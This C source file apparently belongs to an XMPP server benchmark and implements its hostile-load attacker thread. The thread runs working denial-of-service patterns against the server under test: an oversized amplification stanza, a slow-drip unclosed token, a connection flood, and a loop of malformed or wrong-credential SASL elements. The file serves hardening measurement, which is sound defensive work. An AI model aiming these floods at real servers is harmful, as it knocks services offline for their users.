/* The hostile scenario's attacker thread and its pre-authentication
 * connections (see attack.h for what each kind sends).
 *
 * One epoll set holds the attacker sockets, a 1 ms timerfd and the
 * flooder's own epoll set (flood.c, driven through client.c).  The tick
 * opens connections that are due (a bounded number per tick, so the
 * connection flood does not arrive as one SYN burst), drips the slow
 * token, paces the SASL loop and tops up the flooder.
 *
 * The thread runs at SCHED_IDLE: on a generator pinned to one CPU it then
 * gets only what the chat's worker leaves, so the attack (the flooder
 * above all, which sends as fast as it can) does not delay the legitimate
 * messages on our side and the chat latency stays the server's.
 *
 * SCHED_IDLE yields the CPU in user space only.  On loopback an attacker's
 * connect(), send() and close() also run the server's side of TCP (the
 * receive path, the handshake, the teardown) inside the system call, and
 * this kernel (PREEMPT_NONE) does not preempt a system call: the chat
 * worker woken meanwhile waits for it.  That is work a real server does
 * on its own CPUs, in softirq, for traffic from other machines.  With
 * --attack-cpu the thread runs on the CPU given (compare.sh: the server's),
 * where that work then falls: measured on 2 CPUs, chat p99 without attackers
 * 0.30-0.61 ms, with them beside the chat 0.63-1.16 ms, with them on the
 * server's CPU 0.35-0.51 ms (docs/hardening.md). */
#include "bench/xmppload/attack.h"

#include <errno.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <sys/timerfd.h>
#include <unistd.h>

#include "core/base/xbuf.h"

#define TICK_NS 1000000ull
#define OPENS_PER_TICK 32
#define AMPLIFY_BYTES (234u * 1024u)
#define SLOW_FIRST 16384u
#define SLOW_DRIP 8u
#define SLOW_DRIP_NS 5000000ull
/* The SASL loop sends its next element when the server answered the last
 * one, or after this long without an answer (pipelining). */
#define SASL_WAIT_NS 50000000ull
/* Pause before reopening a connection the server closed: keeps a server
 * that closes at once from turning the attack into a busy loop of ours. */
#define REOPEN_NS 20000000ull

#define NS_SASL "urn:ietf:params:xml:ns:xmpp-sasl"

struct aconn {
	int fd;
	enum akind kind;
	unsigned idx;            /* for the source address */
	bool connecting, want_out;
	const char *open_p;      /* the kind's opening bytes, written once */
	size_t open_len, off;
	struct xbuf out;         /* later small writes that did not fit */
	uint64_t next_ns;        /* reopen / next drip / next SASL element */
	unsigned step;           /* SASL: next element of the cycle */
	bool replied;            /* SASL: server bytes since our last element */
};

static const char *const kind_names[AK_COUNT] = { "amplify", "slow_token", "conn_flood",
						  "sasl_loop" };

/* Wrong password, unoffered mechanism, elements in the wrong state, an
 * unauthenticated stanza: all before STARTTLS, on one stream. */
static const char *const sasl_cycle[] = {
	"<auth xmlns='" NS_SASL "' mechanism='PLAIN'>AHVzZXIxAHdyb25n</auth>",
	"<auth xmlns='" NS_SASL "' mechanism='X-NOT-OFFERED'/>",
	"<response xmlns='" NS_SASL "'>AAAA</response>",
	"<abort xmlns='" NS_SASL "'/>",
	"<auth xmlns='" NS_SASL "' mechanism='SCRAM-SHA-256'>biwsbj11c2VyMSxyPWFiY2RlZmdo</auth>",
	"<success xmlns='" NS_SASL "'/>",
	"<iq type='set' id='b1'><bind xmlns='urn:ietf:params:xml:ns:xmpp-bind'/></iq>",
};

static char header[512];
static char slow_open[600 + SLOW_FIRST];
static size_t header_len, slow_open_len;

const char *akind_name(enum akind k)
{
	return k < AK_COUNT ? kind_names[k] : "?";
}

static bool build_payloads(struct attack *a)
{
	const char *host = a->cfg->host;
	int n;

	header_len = (size_t)snprintf(header, sizeof(header),
				      "<?xml version='1.0'?><stream:stream to='%s' xmlns='jabber:client' "
				      "xmlns:stream='http://etherx.jabber.org/streams' version='1.0'>",
				      host);
	/* An attribute value that is never closed: the parser has to keep the
	 * whole token. */
	n = snprintf(slow_open, sizeof(slow_open), "%s<message to='", header);
	memset(slow_open + n, 'x', SLOW_FIRST);
	slow_open_len = (size_t)n + SLOW_FIRST;

	a->amplify = malloc(AMPLIFY_BYTES);
	if (!a->amplify)
		return false;
	n = snprintf(a->amplify, AMPLIFY_BYTES, "%s<message to='user1@%s' type='chat'>", header, host);
	a->amplify_len = (size_t)n;
	while (a->amplify_len + 4 <= AMPLIFY_BYTES) {
		memcpy(a->amplify + a->amplify_len, "<a/>", 4);
		a->amplify_len += 4;
	}
	return true;
}

static void set_out(struct attack *a, struct aconn *c, bool out)
{
	struct epoll_event ev = { .events = EPOLLIN | (out ? EPOLLOUT : 0), .data.ptr = c };

	if (out == c->want_out)
		return;
	c->want_out = out;
	epoll_ctl(a->ep, EPOLL_CTL_MOD, c->fd, &ev);
}

static void aconn_close(struct aconn *c)
{
	if (c->fd >= 0)
		close(c->fd);
	c->fd = -1;
	xbuf_free(&c->out);
}

/* The server closed it (or reset it): count, and reopen after a pause. */
static void closed_by_server(struct attack *a, struct aconn *c, uint64_t now)
{
	a->k[c->kind].closed_by_server++;
	aconn_close(c);
	c->next_ns = now + REOPEN_NS;
}

static void aconn_open(struct attack *a, struct aconn *c, uint64_t now)
{
	const struct load_cfg *cfg = a->cfg;
	struct epoll_event ev = { .events = EPOLLIN | EPOLLOUT, .data.ptr = c };
	struct sockaddr_in src = { .sin_family = AF_INET };
	int one = 1;

	c->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (c->fd < 0)
		goto fail;
	if (cfg->n_attack_ips) {
		src.sin_addr = cfg->attack_ips[c->idx % cfg->n_attack_ips];
		setsockopt(c->fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof(one));
		if (bind(c->fd, (struct sockaddr *)&src, sizeof(src)) < 0)
			goto fail;
	}
	if (connect(c->fd, (const struct sockaddr *)&cfg->server, sizeof(cfg->server)) < 0 &&
	    errno != EINPROGRESS)
		goto fail;
	if (epoll_ctl(a->ep, EPOLL_CTL_ADD, c->fd, &ev) < 0)
		goto fail;
	c->connecting = c->want_out = true;
	c->off = 0;
	c->step = 0;
	c->replied = false;
	switch (c->kind) {
	case AK_AMPLIFY:
		c->open_p = a->amplify, c->open_len = a->amplify_len;
		break;
	case AK_SLOW:
		c->open_p = slow_open, c->open_len = slow_open_len;
		break;
	case AK_HOLD:
		/* Half say nothing at all, half only open a stream. */
		c->open_p = header, c->open_len = c->idx % 2 ? header_len : 0;
		break;
	default:
		c->open_p = header, c->open_len = header_len;
		break;
	}
	c->next_ns = now;
	return;
fail:
	if (!a->first_error[0])
		snprintf(a->first_error, sizeof(a->first_error), "%s connect: %s",
			 kind_names[c->kind], strerror(errno));
	a->k[c->kind].connect_failed++;
	aconn_close(c);
	c->next_ns = now + REOPEN_NS;
}

/* Writes the rest of the opening bytes, then anything queued. */
static void aconn_flush(struct attack *a, struct aconn *c, uint64_t now)
{
	while (c->fd >= 0) {
		const char *p = c->off < c->open_len ? c->open_p + c->off : c->out.data;
		size_t n = c->off < c->open_len ? c->open_len - c->off : c->out.len;
		ssize_t r;

		if (n == 0) {
			set_out(a, c, false);
			return;
		}
		r = send(c->fd, p, n, MSG_NOSIGNAL);
		if (r < 0) {
			if (errno == EAGAIN || errno == EINTR)
				set_out(a, c, true);
			else
				closed_by_server(a, c, now);
			return;
		}
		a->k[c->kind].bytes_out += (uint64_t)r;
		if (c->off < c->open_len)
			c->off += (size_t)r;
		else
			xbuf_consume(&c->out, (size_t)r);
	}
}

static void aconn_write(struct attack *a, struct aconn *c, const char *s, size_t n, uint64_t now)
{
	/* A stalled socket keeps at most one element queued: the attack is
	 * about what the server holds, not about our own buffers. */
	if (c->out.len > 4096)
		return;
	if (xbuf_append(&c->out, s, n) == XS_OK)
		aconn_flush(a, c, now);
}

static void aconn_event(struct attack *a, struct aconn *c, uint32_t events, uint64_t now)
{
	static _Thread_local char buf[16384];

	if (c->fd < 0)
		return;
	if (c->connecting) {
		int err = 0;
		socklen_t len = sizeof(err);

		if (!(events & (EPOLLOUT | EPOLLERR | EPOLLHUP)))
			return;
		getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &err, &len);
		if (err) {
			a->k[c->kind].connect_failed++;
			aconn_close(c);
			c->next_ns = now + REOPEN_NS;
			return;
		}
		c->connecting = false;
		a->k[c->kind].opened++;
		aconn_flush(a, c, now);
		return;
	}
	if (events & EPOLLOUT)
		aconn_flush(a, c, now);
	if (c->fd >= 0 && (events & (EPOLLIN | EPOLLERR | EPOLLHUP))) {
		/* What the server says (features, failures, errors) is read and
		 * dropped, so it is never blocked writing to us. */
		ssize_t r = recv(c->fd, buf, sizeof(buf), 0);

		if (r > 0) {
			a->k[c->kind].bytes_in += (uint64_t)r;
			c->replied = true;
		} else if (r == 0 || (errno != EAGAIN && errno != EINTR)) {
			closed_by_server(a, c, now);
		}
	}
}

/* Per connection, what is due at this tick. */
static void aconn_tick(struct attack *a, struct aconn *c, uint64_t now, unsigned *opens)
{
	char drip[SLOW_DRIP];

	if (c->fd < 0) {
		if (now >= c->next_ns && *opens < OPENS_PER_TICK) {
			(*opens)++;
			aconn_open(a, c, now);
		}
		return;
	}
	if (c->connecting || c->off < c->open_len)
		return;
	if (c->kind == AK_SLOW && now >= c->next_ns) {
		memset(drip, 'x', sizeof(drip));
		c->next_ns = now + SLOW_DRIP_NS;
		aconn_write(a, c, drip, sizeof(drip), now);
	} else if (c->kind == AK_SASL && (c->replied || now >= c->next_ns)) {
		const char *el = sasl_cycle[c->step++ % (sizeof(sasl_cycle) / sizeof(*sasl_cycle))];

		c->replied = false;
		c->next_ns = now + SASL_WAIT_NS;
		a->k[AK_SASL].elements++;
		aconn_write(a, c, el, strlen(el), now);
	}
}

static void finish(struct attack *a)
{
	for (unsigned i = 0; i < a->n_conns; i++) {
		struct aconn *c = &a->conns[i];

		if (c->fd >= 0 && !c->connecting)
			a->k[c->kind].open_at_end++;
		aconn_close(c);
	}
	flood_stop(a);
}

static void *attack_main(void *arg)
{
	struct attack *a = arg;
	struct sched_param sp = { 0 };
	struct epoll_event evs[256];
	bool started = false;

	/* Lowest priority, best effort: see the comment at the top. */
	pthread_setschedparam(pthread_self(), SCHED_IDLE, &sp);
	if (a->cfg->attack_cpu >= 0) {
		cpu_set_t set;

		CPU_ZERO(&set);
		CPU_SET(a->cfg->attack_cpu, &set);
		if (pthread_setaffinity_np(pthread_self(), sizeof(set), &set) != 0)
			fprintf(stderr, "xmppload: attacker thread not moved to CPU %d\n",
				a->cfg->attack_cpu);
	}
	for (;;) {
		int phase = atomic_load_explicit(&a->sh->phase, memory_order_acquire);
		uint64_t now;
		int n;

		if (phase == PH_DRAIN || phase == PH_STOP)
			break;
		if (phase == PH_CHAT && !started) {
			started = true;
			a->victim_jid = a->sh->victim ? a->sh->jids[a->sh->victim - a->cfg->first_user]
						      : NULL;
		}
		n = epoll_wait(a->ep, evs, 256, 100);
		now = now_ns();
		for (int i = 0; i < n; i++) {
			void *p = evs[i].data.ptr;

			if (p == &a->tfd) {
				uint64_t ticks;
				unsigned opens = 0;

				if (read(a->tfd, &ticks, sizeof(ticks)) < 0 && errno != EAGAIN)
					continue;
				flood_tick(a, now);
				if (!started)
					continue;
				for (unsigned j = 0; j < a->n_conns; j++)
					aconn_tick(a, &a->conns[j], now, &opens);
			} else if (p == &a->fw) {
				flood_events(a);
			} else {
				aconn_event(a, p, evs[i].events, now);
			}
		}
		if (started)
			flood_pump(a);
	}
	finish(a);
	return NULL;
}

int attack_start(struct attack *a, const struct load_cfg *cfg, struct shared *sh)
{
	struct itimerspec its = { .it_interval = { 0, (long)TICK_NS }, .it_value = { 0, (long)TICK_NS } };
	struct epoll_event ev = { .events = EPOLLIN, .data.ptr = &a->tfd };
	unsigned per = cfg->attackers, i = 0;

	memset(a, 0, sizeof(*a));
	a->fw.ep = -1; /* attack_free closes only what was opened */
	a->cfg = cfg;
	a->sh = sh;
	a->ep = epoll_create1(EPOLL_CLOEXEC);
	a->tfd = timerfd_create(CLOCK_MONOTONIC, TFD_NONBLOCK | TFD_CLOEXEC);
	if (a->ep < 0 || a->tfd < 0 || timerfd_settime(a->tfd, 0, &its, NULL) < 0 ||
	    epoll_ctl(a->ep, EPOLL_CTL_ADD, a->tfd, &ev) < 0 || !build_payloads(a))
		return -1;
	for (int k = 0; k < AK_COUNT; k++) {
		if (cfg->attack_kinds & (1u << k))
			a->k[k].conns = k == AK_HOLD ? cfg->hold_conns : per;
		a->n_conns += a->k[k].conns;
	}
	a->conns = calloc(a->n_conns ? a->n_conns : 1, sizeof(*a->conns));
	if (!a->conns)
		return -1;
	for (int k = 0; k < AK_COUNT; k++)
		for (unsigned j = 0; j < a->k[k].conns; j++, i++) {
			a->conns[i].fd = -1;
			a->conns[i].kind = (enum akind)k;
			a->conns[i].idx = i;
		}
	if (!flood_init(a))
		return -1;
	ev.data.ptr = &a->fw;
	if (epoll_ctl(a->ep, EPOLL_CTL_ADD, a->fw.ep, &ev) < 0)
		return -1;
	return pthread_create(&a->thread, NULL, attack_main, a) == 0 ? 0 : -1;
}

void attack_join(struct attack *a)
{
	pthread_join(a->thread, NULL);
}

void attack_free(struct attack *a)
{
	if (a->conns)
		for (unsigned i = 0; i < a->n_conns; i++)
			aconn_close(&a->conns[i]);
	free(a->conns);
	free(a->amplify);
	flood_free(a);
	if (a->tfd >= 0)
		close(a->tfd);
	if (a->ep >= 0)
		close(a->ep);
}
